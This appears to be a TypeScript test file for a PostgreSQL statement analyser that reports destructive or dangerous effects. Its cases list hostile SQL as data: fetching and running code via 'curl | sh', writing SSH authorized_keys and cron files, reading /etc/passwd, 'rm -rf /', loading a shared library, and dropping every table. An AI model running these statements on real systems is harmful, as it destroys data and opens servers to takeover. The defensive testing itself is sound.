// PostgreSQL statements read by its own parser and by our tokens: harmful ones beside their nearest harmless ones, what each reader says
// where they differ, and that the two together never say less than the tokens alone.
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { asksForTree } from '../../../src/core/effects/sql/postgres/readTree';
import type { FoundEffect } from '../../../src/core/effects/world';
import type { Effect } from '../../../src/core/model/effect';
import { isAtLeast } from '../../../src/core/model/verdict';
import { levelOf } from '../../../src/core/policy/levels';
import { grammars } from '../grammars';
import { readText, shownEffect } from './sqlReading';
import { growsInProportion } from '../growth';

/** SQL, what both readers together say, and what the tokens alone say where that is another thing. */
const cases: readonly (readonly [string, readonly string[], (readonly string[])?])[] = [
  ['DELETE FROM users WHERE NOT false', ['delete all rows of the table users'], ['delete rows of the table users']],
  ['DELETE FROM users WHERE 1 < 2', ['delete all rows of the table users'], ['delete rows of the table users']],
  ['DELETE FROM users WHERE (1=1)', ['delete all rows of the table users']],
  ['DELETE FROM users WHERE id IS NULL OR id IS NOT NULL', ['delete all rows of the table users'], ['delete rows of the table users']],
  ['DELETE FROM users WHERE id IN (SELECT id FROM users)', ['delete all rows of the table users'], ['delete rows of the table users']],
  ['DELETE FROM users WHERE id IN (SELECT user_id FROM stale)', ['delete rows of the table users']],
  ['DELETE FROM users WHERE EXISTS (SELECT 1)', ['delete all rows of the table users'], ['delete rows of the table users']],
  ['DELETE FROM users WHERE ctid IS NOT NULL', ['delete all rows of the table users'], ['delete rows of the table users']],
  ["DELETE FROM users WHERE name LIKE '%'", ['delete all rows of the table users'], ['delete rows of the table users']],
  ['DELETE FROM users WHERE 1 IN (1)', ['delete all rows of the table users'], ['delete rows of the table users']],
  ["DELETE FROM users WHERE 'yes'::boolean", ['delete all rows of the table users'], ['delete rows of the table users']],
  ['DELETE FROM users WHERE coalesce(true, false)', ['delete all rows of the table users'], ['delete rows of the table users']],
  ['DELETE FROM users WHERE 1 = 1 AND id = 3', ['delete rows of the table users']],
  ['DELETE FROM users WHERE random() = random()', ['delete all rows of the table users']],
  ['DELETE FROM public . users', ['delete all rows of the table public.users'], ['delete all rows of the table public']],
  ['DELETE FROM users USING old WHERE users.id = old.id', ['delete rows of the table users']],
  ['DELETE FROM users u WHERE u.id = u.id', ['delete all rows of the table users'], ['delete rows of the table users']],
  ['UPDATE users SET a = 1 WHERE true IS true', ['update all rows of the table users'], ['update rows of the table users']],
  ['WITH x AS (SELECT 1) DELETE FROM users', ['delete all rows of the table users']],
  ['MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE', ['delete all rows of the table t'], ['delete rows of the table t']],
  ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a', ['update rows of the table t']],
  ['MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE', ['delete all rows of the table t'], ['delete rows of the table t']],
  ['TRUNCATE a, b, ONLY c CASCADE', ['delete all rows of the table a', 'delete all rows of the table b', 'delete all rows of the table c']],
  ["DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$", ['delete table users'], []],
  ["DO $$ DECLARE r record; BEGIN FOR r IN SELECT tablename FROM pg_tables LOOP EXECUTE format('DROP TABLE IF EXISTS %I CASCADE', r.tablename); END LOOP; END $$", ['delete table (named when it runs)'], []],
  ['DO $$ BEGIN IF false THEN DELETE FROM users; END IF; END $$', ['delete all rows of the table users?']],
  ['DO $$ BEGIN DELETE FROM users; END $$', ['delete all rows of the table users'], ['delete all rows of the table users?']],
  ["DO $$ BEGIN RAISE NOTICE 'DROP TABLE users'; END $$", []],
  ['DO $$ BEGIN PERFORM pg_terminate_backend(1); END $$', ['update sessions of the server session 1'], []],
  ["DO LANGUAGE plpython3u $$ import os; os.system('rm -rf /') $$", ['replace database os?']],
  ["DO $$ BEGIN EXECUTE 'TRUNCATE ' || string_agg(t, ',') FROM x; END $$", ['delete all rows of the table (named when it runs)'], []],
  ['CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DELETE FROM users; END $$; SELECT f()', ['create function f', 'delete all rows of the table users'], ['create function f']],
  ['CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DELETE FROM users; END $$', ['create function f']],
  ["CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'TRUNCATE users'; SELECT 1", ['create function f']],
  ["CREATE PROCEDURE p() LANGUAGE sql AS 'TRUNCATE users'; CALL p()", ['create procedure p', 'execute procedure p', 'delete all rows of the table users'], ['create procedure p', 'execute procedure p']],
  ["CREATE FUNCTION f() RETURNS int LANGUAGE c AS '/tmp/x.so', 'run'", ['create function f']],
  ["COPY t FROM PROGRAM 'curl http://x | sh'", ['create rows of the table t', 'execute code http://x']],
  ["COPY (SELECT 'x') TO '/root/.ssh/authorized_keys'", ['read table a query', 'update file of the server /root/.ssh/authorized_keys'], ['read table a query']],
  ["COPY t TO '/tmp/t.csv'", ['read table t']],
  ["COPY t FROM '/etc/passwd'", ['create rows of the table t', 'read file of the server /etc/passwd'], ['create rows of the table t']],
  ['GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC', ['grant privilege all tables in public, to public'], ['grant privilege ALL, to PUBLIC']],
  ['GRANT SELECT ON t TO reader', ['grant privilege t, to reader']],
  ['GRANT pg_execute_server_program TO bob', ['grant privilege pg_execute_server_program, to bob']],
  ['REVOKE ALL ON t FROM bob', ['update privilege t, from bob?']],
  ['ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT ALL ON TABLES TO anon', ['grant privilege everything made later, to anon'], []],
  ['ALTER TABLE t ALTER c TYPE int, ALTER d SET NOT NULL', ['update table t?', 'update table t?']],
  ['ALTER TABLE t ADD COLUMN id uuid DEFAULT gen_random_uuid()', ['update table t']],
  ['ALTER TABLE t ADD COLUMN id uuid', ['update table t']],
  ['ALTER TABLE t ADD CONSTRAINT c FOREIGN KEY (a) REFERENCES b NOT VALID', ['update table t']],
  ['ALTER TABLE t DROP COLUMN a CASCADE, DROP b', ['delete column t.a', 'delete column t.b']],
  ['ALTER TABLE t DETACH PARTITION p', ['update table t']],
  ['ALTER TABLE t SET UNLOGGED', ['update table t']],
  ['ALTER TABLE t DISABLE ROW LEVEL SECURITY', ['update table t']],
  ['ALTER TYPE address DROP ATTRIBUTE zip CASCADE', ['delete column address.zip'], ['delete column address.ATTRIBUTE']],
  ['ALTER TABLE t RENAME TO u', ['update table t?', 'create table u']],
  ['ALTER DATABASE shop ALLOW_CONNECTIONS false', ['update database shop']],
  ["ALTER DATABASE shop SET work_mem = '64MB'", ['update database shop']],
  ['DROP OWNED BY bob CASCADE', ['delete everything owned by bob']],
  ['REASSIGN OWNED BY bob TO alice', ['grant everything owned by bob, to alice'], []],
  ['DROP FOREIGN DATA WRAPPER w CASCADE', ['delete foreign data wrapper w'], []],
  ['DROP TRANSFORM FOR hstore LANGUAGE plpython3u', ['delete transform hstore.plpython3u'], []],
  ['DROP TABLE U&"us\\0065rs"', ['delete table users'], ['delete table U']],
  ['DROP TABLE "a;b", c', ['delete table a;b', 'delete table c']],
  ['DROP TABLE a . b', ['delete table a.b'], ['delete table a']],
  ['DROP EXTENSION postgis CASCADE', ['delete extension postgis']],
  ['DROP FUNCTION f(int), g(text)', ['delete function f', 'delete function g']],
  ['DROP VIEW v', ['delete view v']],
  ['DROP POLICY p ON t', ['delete row policy p']],
  ['CREATE POLICY p ON t FOR ALL TO anon USING (true)', ['create row policy p', 'grant row policy p'], ['create row policy p']],
  ['CREATE POLICY p ON t FOR SELECT USING (owner = current_user)', ['create row policy p']],
  ['CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM users', ['create rule r']],
  ['CREATE OR REPLACE VIEW v AS SELECT pg_terminate_backend(1)', ['update view v']],
  ['SELECT "pg_terminate_backend"(pid) FROM pg_stat_activity', ['update sessions of the server pid'], []],
  ["SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = 'x'", ['update sessions of the server pid']],
  ['SELECT * INTO backup FROM users', []],
  ["SELECT query_to_xml('DELETE FROM users', true, true, '')", ['delete all rows of the table users']],
  ["SELECT dblink_exec('dbname=x', 'DROP TABLE users')", ['delete table users']],
  ["SELECT cron.schedule('nightly', '0 3 * * *', $$DELETE FROM events$$)", ['delete all rows of the table events?'], []],
  ['SELECT purge_customers(3)', ['execute procedure purge_customers'], []],
  ["SELECT lo_export(1, '/etc/cron.d/x')", ['read file of the server 1', 'update file of the server /etc/cron.d/x'], ['read file of the server 1']],
  ["SELECT * FROM deleted_users WHERE note = 'drop'", []],
  ['PREPARE p AS DELETE FROM users; EXECUTE p', ['execute procedure p', 'delete all rows of the table users?', 'execute procedure p', 'delete all rows of the table users'], ['execute procedure p', 'execute procedure p']],
  ['PREPARE p AS DELETE FROM users WHERE id = $1', ['execute procedure p', 'delete rows of the table users?'], ['execute procedure p']],
  ['EXPLAIN (ANALYZE) DELETE FROM users', ['delete all rows of the table users']],
  ['EXPLAIN DELETE FROM users', []],
  ['INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 1', ['create rows of the table t', 'update rows of the table t?'], ['create rows of the table t']],
  ['INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING', ['create rows of the table t']],
  ['SET session_replication_role = replica', ['update server setting session_replication_role'], []],
  ['SET session_replication_role = origin', []],
  ['CREATE TEMP TABLE s AS SELECT 1; DROP TABLE s', ['delete table s']],
  ['CREATE TEMP TABLE users AS SELECT 1; DROP TABLE users; DROP TABLE users', ['delete table users', 'delete table users']],
  ['BEGIN; DROP TABLE users; ROLLBACK', ['delete table users']],
  ['BEGIN; ROLLBACK; DROP TABLE users; ROLLBACK', ['delete table users']],
  ['BEGIN; SELECT pg_terminate_backend(1); ROLLBACK', ['update sessions of the server session 1'], ['update sessions of the server 1']],
  ['DELETE FROM users WHERE id = :id', ['delete rows of the table users']],
  ["DELETE FROM users WHERE id = :'id' OR true", ['delete all rows of the table users']],
  ["LOAD '/tmp/evil.so'", ['execute procedure /tmp/evil.so'], []],
  ["DELETE FROM ünïcode WHERE \"näme\" = 'x'; DROP TABLE ü", ['delete rows of the table ünïcode', 'delete table ü']],
  ['CREATE INDEX CONCURRENTLY i ON t (a)', ['create index i']],
  ['DELETE FROM users WHERE CURRENT OF c', ['delete rows of the table users']],
  ['DROP SCHEMA public CASCADE', ['delete schema public']],
  ['DELETE FROM users WHERE id > 0 AND true', ['delete rows of the table users']],
  ["DELETE FROM users WHERE name = 'a' OR 'x' = 'x'", ['delete all rows of the table users']],
  ['UPDATE users SET a = 1 WHERE id = 3 AND NOT true', ['update rows of the table users']],
  ["SELECT count(*) FROM users WHERE name = 'DELETE FROM users'", []],
];

const shown = (effects: readonly FoundEffect[]): readonly string[] => effects.map(one => shownEffect(one.effect));

describe('PostgreSQL statements', () => {
  for (const [sql, both, tokens] of cases) {
    it(sql.slice(0, 90), async () => {
      assert.deepEqual(shown((await readText(sql, 'both')).effects), both);
      assert.deepEqual(shown((await readText(sql, 'tokens')).effects), tokens ?? both);
    });
  }

  it('where the engine is not known, too', async () => {
    assert.deepEqual(shown((await readText('DELETE FROM users WHERE NOT false', 'both', 'generic')).effects), ['delete all rows of the table users']);
  });

  it('another engine keeps our tokens alone', async () => {
    let asked = 0;
    const counting = { ...grammars, postgres: (text: string) => (asked++, grammars.postgres(text)) };
    for (const dialect of ['mysql', 'sqlite', 'sqlserver', 'bigquery', 'snowflake', 'clickhouse', 'oracle'] as const) await readText('DROP TABLE users', 'both', dialect, counting);
    assert.equal(asked, 0);
  });

  it('a broken statement does not take the others with it', async () => {
    assert.deepEqual(shown((await readText('DELETE FORM x; DELETE FROM users WHERE NOT false; SELECT 1', 'both')).effects), ['delete all rows of the table FORM', 'delete all rows of the table users']);
  });

  it('what was prepared or defined in one text is not known in the next', async () => {
    assert.ok((await readText('EXECUTE p', 'both')).unread.length > 0);
  });

  for (const sql of ['SELECT * FROM users WHERE id = 3', 'select count(*), max(created_at) from orders group by 1', 'SHOW server_version', "INSERT INTO t (a, b) VALUES (1, 'x')", 'BEGIN; SELECT 1; COMMIT', '\\d users', 'WITH a AS (SELECT 1) SELECT * FROM a', 'CREATE TABLE t (id int primary key)']) {
    it(`loads nothing for ${sql}`, () => assert.equal(asksForTree(sql), false));
  }
});

/** Everything that counts for a verdict, as figures: greater is worse. */
function strength(effect: Effect): readonly number[] {
  const at = (order: readonly string[], value: string): number => order.indexOf(value);
  return [at(['reversible', 'recoverable', 'unknown', 'irreversible'], effect.reversibility), at(['none', 'unknown', 'degrades', 'outage'], effect.disruption), at(['may', 'will'], effect.certainty),
    at(['nothing', 'unknown', 'data'], effect.resource.keeps), at(['filtered', 'one', 'several', 'all'], effect.resource.extent ?? 'one'), effect.disposable ? 0 : 1];
}

/** Is this effect of the tokens still there, at least as strong? Its name may have been read better. */
function held(own: Effect, merged: readonly Effect[]): boolean {
  return merged.some(one => one.operation === own.operation && strength(one).every((value, i) => value >= (strength(own)[i] ?? 0)) && own.traits.every(trait => one.traits.includes(trait)) && isAtLeast(levelOf(one).verdict, levelOf(own).verdict));
}

const name = fc.constantFrom('users', 'public.users', '"Users"', 'a . b', 'pg_temp.t', 'tmp', 'ü');
const condition = fc.constantFrom('', ' WHERE true', ' WHERE id = 3', ' WHERE 1 = 1 OR a', ' WHERE NOT (a = 1)', ' WHERE id IN (SELECT 1)', ' WHERE a = :b', " WHERE x LIKE '%'", ' RETURNING *');
const simple = fc.oneof(
  fc.tuple(fc.constantFrom('DELETE FROM ', 'DELETE FROM ONLY '), name, condition).map(parts => parts.join('')),
  fc.tuple(name, condition).map(([table, where]) => `UPDATE ${table} SET a = 1${where}`),
  fc.tuple(fc.constantFrom('TABLE', 'VIEW', 'SCHEMA', 'MATERIALIZED VIEW', 'FUNCTION', 'ROLE', 'TYPE', 'EXTENSION', 'SEQUENCE'), fc.constantFrom('', ' IF EXISTS'), name, fc.constantFrom('', ' CASCADE', ', other')).map(([kind, exists, table, end]) => `DROP ${kind}${exists} ${table}${end}`),
  fc.tuple(name, fc.constantFrom('DROP COLUMN a', 'DROP a, ADD b int', 'ALTER a TYPE int', 'RENAME TO z', 'DISABLE TRIGGER ALL', 'OWNER TO bob', 'DROP CONSTRAINT c', 'SET SCHEMA s')).map(([table, change]) => `ALTER TABLE ${table} ${change}`),
  fc.tuple(fc.constantFrom('GRANT', 'REVOKE'), fc.constantFrom('ALL', 'SELECT, INSERT'), name, fc.constantFrom('PUBLIC', 'bob')).map(([word, what, table, who]) => `${word} ${what} ON ${table} ${word === 'GRANT' ? 'TO' : 'FROM'} ${who}`),
  fc.tuple(name, fc.constantFrom('', ', b', ' CASCADE')).map(([table, end]) => `TRUNCATE ${table}${end}`),
  fc.constantFrom('BEGIN', 'ROLLBACK', 'COMMIT', 'CREATE TEMP TABLE tmp (a int)', "COPY users TO PROGRAM 'rm -rf /'", 'SELECT pg_terminate_backend(1)', 'CREATE OR REPLACE VIEW v AS SELECT 1', 'VACUUM FULL', 'LOCK users', "\\! rm x\n", 'EXPLAIN ANALYZE DELETE FROM users', 'REINDEX TABLE users', 'CALL p()'),
);
const statement = fc.oneof(simple, simple.map(one => `WITH x AS (${one} RETURNING 1) SELECT * FROM x`), simple.map(one => `EXPLAIN ANALYZE ${one}`), simple.map(one => `DO $$ BEGIN ${one}; END $$`), simple.map(one => `PREPARE p AS ${one}`), simple.map(one => `CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $q$ ${one} $q$; SELECT f()`));

describe('two readers of SQL', () => {
  it('together never say less than the tokens alone', async () => {
    await fc.assert(fc.asyncProperty(fc.array(statement, { minLength: 1, maxLength: 4 }).map(all => all.join(';\n')), async sql => {
      const [tokens, both] = [await readText(sql, 'tokens'), await readText(sql, 'both')];
      const merged = both.effects.map(one => one.effect);
      for (const { effect } of tokens.effects) assert.ok(held(effect, merged), `${shownEffect(effect)} of ${sql} is lost: ${shown(both.effects).join(' | ')}`);
      assert.ok(both.effects.length >= tokens.effects.length, sql);
    }), { numRuns: 300 });
  }).timeout(60_000);

  it('say nothing twice of one statement', async () => {
    for (const [sql] of cases.filter(one => !one[0].includes(';'))) {
      const said = shown((await readText(sql, 'both')).effects).filter(one => !one.startsWith('update table'));
      assert.deepEqual([...new Set(said)], said, sql);
    }
  }).timeout(30_000);

  it('neither throw nor hang on hostile text', async () => {
    const hostile = ['DELETE FROM t WHERE ' + '('.repeat(50_000), 'DELETE FROM t WHERE ' + 'NOT '.repeat(20_000) + 'true', 'DELETE FROM t WHERE ' + '('.repeat(2000) + 'true' + ')'.repeat(2000), 'DELETE FROM t WHERE a = ' + '1+'.repeat(15_000) + '1', 'INSERT INTO t VALUES ' + "(1,'drop'),".repeat(90_000) + '(1,2)', 'DELETE FROM t;'.repeat(70_000),
      'DO $$ BEGIN ' + 'IF x THEN '.repeat(3000) + 'DELETE FROM t;' + ' END IF;'.repeat(3000) + ' END $$', 'SELECT \0; DROP TABLE t', '\ud800 DROP TABLE t', 'DROP TABLE ' + 'a,'.repeat(20_000) + 'a', "DO $$ BEGIN EXECUTE '" + "x'||'".repeat(5000) + "'; END $$", 'DROP TABLE U&"\\', 'CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ SELECT f() $$; SELECT f()'];
    for (const sql of hostile) {
      const found = await readText(sql, 'both');
      assert.ok(Array.isArray(found.effects));
    }
  }).timeout(300_000);

  it('take time in proportion to the text', async () => {
    for (const [before, part, size, after] of [['DELETE FROM t WHERE ', '(', 3000, ''], ['DELETE FROM t WHERE ', 'NOT ', 1500, 'true'], ['INSERT INTO t VALUES ', "(1,'drop'),", 3000, '(1,2)'], ['', 'DELETE FROM t;', 1000, ''], ['DROP TABLE ', 'a,', 1500, 'a']] as const) {
      await growsInProportion(count => readText(`${before}${part.repeat(count)}${after}`, 'both'), size, before + part);
    }
  }).timeout(300_000);
});
